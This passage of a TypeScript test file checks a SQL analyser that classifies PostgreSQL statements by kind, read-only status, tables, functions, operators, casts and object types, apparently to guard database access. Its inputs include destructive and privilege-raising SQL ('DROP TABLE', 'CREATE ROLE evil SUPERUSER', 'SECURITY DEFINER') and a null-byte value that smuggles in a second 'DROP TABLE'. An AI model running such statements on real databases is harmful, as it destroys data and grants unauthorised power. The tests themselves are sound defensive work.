      expect(one(sql), sql).not.toHaveProperty('renames');
    }
  });
});

describe('ordinary statements', () => {
  it('SELECT with schema-qualified and unqualified tables', () => {
    expect(one('SELECT email, ssn FROM public.customers WHERE id = 42')).toEqual({ kind: 'select', readonly: true, tables: [read('customers')], functions: [] });
    expect(one('SELECT * FROM customers')).toEqual({ kind: 'select', readonly: true, tables: [read('customers')], functions: [] });
    expect(one('SELECT * FROM sales.invoices')).toMatchObject({ tables: [read('invoices', 'sales')] });
  });

  it('joins, subqueries and functions anywhere in the tree', () => {
    const facts = one(`
      SELECT upper(c.email), o.total
      FROM public.customers c
      JOIN sales.orders o ON o.customer_id = c.id
      LEFT JOIN LATERAL (SELECT max(amount) AS m FROM refunds r WHERE r.order_id = o.id) x ON true
      WHERE o.id IN (SELECT order_id FROM public.flags WHERE md5(reason) <> '')
        AND EXISTS (SELECT 1 FROM notes n WHERE n.at > now())
      GROUP BY 1, 2
      HAVING count(*) > coalesce(abs(-1), 0)
      ORDER BY lower(c.email)`);
    expect(facts.readonly).toBe(true);
    expect(facts.tables).toEqual([read('customers'), read('orders', 'sales'), read('refunds'), read('flags'), read('notes')]);
    expect([...facts.functions].sort()).toEqual(['abs', 'count', 'lower', 'max', 'md5', 'now', 'upper']);
  });

  it('CTE names are not tables, but a real table of the same name read before the CTE is', () => {
    expect(one('WITH recent AS (SELECT * FROM orders) SELECT * FROM recent')).toMatchObject({ tables: [read('orders')] });
    // Without RECURSIVE, a CTE sees only the CTEs before it: "b" in "a" is the table b.
    expect(one('WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b')).toMatchObject({ tables: [read('b')] });
    expect(one('WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r')).toMatchObject({ tables: [] });
    // A qualified name is always a table.
    expect(one('WITH orders AS (SELECT 1) SELECT * FROM public.orders')).toMatchObject({ tables: [read('orders')] });
  });

  it('INSERT, UPDATE, DELETE, MERGE: the target is written, the rest read', () => {
    expect(one("INSERT INTO public.orders (id, status) VALUES (43, 'new')")).toEqual({ kind: 'insert', readonly: false, tables: [write('orders')], functions: [] });
    expect(one('INSERT INTO archive SELECT * FROM orders ON CONFLICT (id) DO UPDATE SET status = excluded.status')).toMatchObject({ tables: [write('archive'), read('orders')] });
    expect(one("UPDATE public.orders SET status = 'refunded' WHERE id = 42")).toEqual({ kind: 'update', readonly: false, tables: [write('orders')], functions: [] });
    expect(one('UPDATE orders o SET total = p.total FROM sales.prices p WHERE p.id = o.id')).toMatchObject({ tables: [write('orders'), read('prices', 'sales')] });
    expect(one('DELETE FROM public.orders WHERE id = 42')).toEqual({ kind: 'delete', readonly: false, tables: [write('orders')], functions: [] });
    expect(one('DELETE FROM orders USING customers c WHERE c.id = orders.customer_id')).toMatchObject({ tables: [write('orders'), read('customers')] });
    expect(one('MERGE INTO orders t USING staging s ON t.id = s.id WHEN MATCHED THEN DELETE')).toMatchObject({ kind: 'merge', readonly: false, tables: [write('orders'), read('staging')] });
  });

  it('DDL: create, drop, alter, truncate', () => {
    expect(one('DROP TABLE public.orders')).toEqual({ kind: 'drop', readonly: false, tables: [write('orders')], functions: [], object_type: 'table' });
    expect(one('TRUNCATE orders, audit.events')).toMatchObject({ kind: 'truncate', readonly: false, tables: [write('orders'), write('events', 'audit')] });
    expect(one('ALTER TABLE orders ADD COLUMN x int')).toMatchObject({ kind: 'alter', readonly: false, tables: [write('orders')] });
    expect(one('CREATE INDEX ON orders (id)')).toMatchObject({ kind: 'create', readonly: false, tables: [write('orders')] });
    expect(one('CREATE ROLE evil SUPERUSER')).toMatchObject({ kind: 'create', readonly: false });
    expect(one('GRANT SELECT ON orders TO public')).toMatchObject({ kind: 'grant', readonly: false });
  });

  it('names the type of object a statement creates, alters or drops; function and procedure apart', () => {
    const objectType = (sql: string) => one(sql).object_type;
    expect(objectType("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'")).toBe('function');
    expect(objectType("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql RETURN 1")).toBe('function');
    expect(objectType("CREATE PROCEDURE p() LANGUAGE sql AS 'SELECT 1'")).toBe('procedure');
    expect(objectType('DROP PROCEDURE p')).toBe('procedure');
    expect(objectType('ALTER FUNCTION f() SECURITY DEFINER')).toBe('function');
    expect(objectType('CREATE TABLE t (a int)')).toBe('table');
    expect(objectType('CREATE TABLE t AS SELECT 1')).toBe('table');
    expect(objectType('CREATE MATERIALIZED VIEW m AS SELECT 1')).toBe('matview');
    expect(objectType('CREATE VIEW v AS SELECT 1')).toBe('view');
    expect(objectType('CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()')).toBe('trigger');
    expect(objectType('CREATE AGGREGATE a (int) (sfunc = int4pl, stype = int)')).toBe('aggregate');
    expect(objectType('CREATE EXTENSION pgcrypto')).toBe('extension');
    expect(objectType('ALTER TABLE t RENAME TO u')).toBe('table');
    expect(objectType("COMMENT ON TABLE t IS 'x'")).toBe('table');
    expect(objectType('SELECT 1')).toBeUndefined();
    expect(objectType('DO $$ BEGIN END $$')).toBeUndefined();
    expect(objectType('BEGIN')).toBeUndefined();
  });

  it('a multi-statement text gives one entry per statement', () => {
    const statements = analyseSqlSync('SELECT 1; DROP TABLE public.orders; SHOW work_mem;');
    expect(statements.map((s) => [s.kind, s.readonly])).toEqual([['select', true], ['drop', false], ['show', true]]);
    expect(statements[1]?.tables).toEqual([write('orders')]);
  });

  it('empty text, blanks and comments are no statements', async () => {
    expect(await analyseSql('')).toEqual([]);
    expect(analyseSqlSync('  ;\n-- nothing here\n/* nor here */')).toEqual([]);
  });
});

describe('unparseable SQL', () => {
  it('is an error with the position, never a partial result', () => {
    const attempt = () => analyseSqlSync('SELECT 1; DELETE FROM orders WHERE; SELECT 2');
    expect(attempt).toThrow(SqlAnalysisError);
    expect(attempt).toThrow(/SQL could not be parsed: syntax error at or near ";"/);
    try {
      attempt();
    } catch (error) {
      expect((error as SqlAnalysisError).position).toBe(35);
    }
  });

  it('counts the position in characters, as PostgreSQL does', () => {
    expect(() => analyseSqlSync("SELECT 'é' FROM FROM")).toThrow(expect.objectContaining({ position: 17 }) as unknown as Error);
  });

  it('rejects through the promise API too, and for garbage and unterminated input', async () => {
    await expect(analyseSql('SELEC 1')).rejects.toThrow(SqlAnalysisError);
    for (const garbage of ["SELECT 'unterminated", 'SELECT (((1', '\u0001\u0002', 'DELETE FROM', 'SELECT 1\u0000; DROP TABLE orders']) {
      expect(() => analyseSqlSync(garbage), JSON.stringify(garbage)).toThrow(SqlAnalysisError);
    }
  });

  it('a very deeply nested query is parsed or refused, never crashes the walk', () => {
    const deep = `SELECT ${'('.repeat(5000)}1${')'.repeat(5000)}`;
    let result: StatementFacts[] | SqlAnalysisError;
    try {
      result = analyseSqlSync(deep);
    } catch (error) {
      result = error as SqlAnalysisError;
    }
    if (result instanceof Error) expect(result).toBeInstanceOf(SqlAnalysisError);
    else expect(result[0]?.readonly).toBe(true);
  });
});

describe('operators and casts the database could back with its own functions', () => {
  it('lists operators outside pg_catalog\'s symbols or schema-qualified, and casts to types that are not PostgreSQL\'s common ones', () => {
    expect(one('SELECT ### 1, OPERATOR(public.###) 2, a = b, c || d, OPERATOR(pg_catalog.+) 3 FROM t')).toMatchObject({ operators: ['###', 'public.###'] });
    expect(one("SELECT 2::ssn_box, CAST(x AS public.t), y::text, z::int, w::jsonb, v::pg_catalog.numeric FROM t")).toMatchObject({ casts: ['public.t', 'ssn_box'] });
    const plain = one("SELECT a = 1, b::text FROM t WHERE c <> 'x'");
    expect(plain).not.toHaveProperty('operators');
    expect(plain).not.toHaveProperty('casts');
  });
});
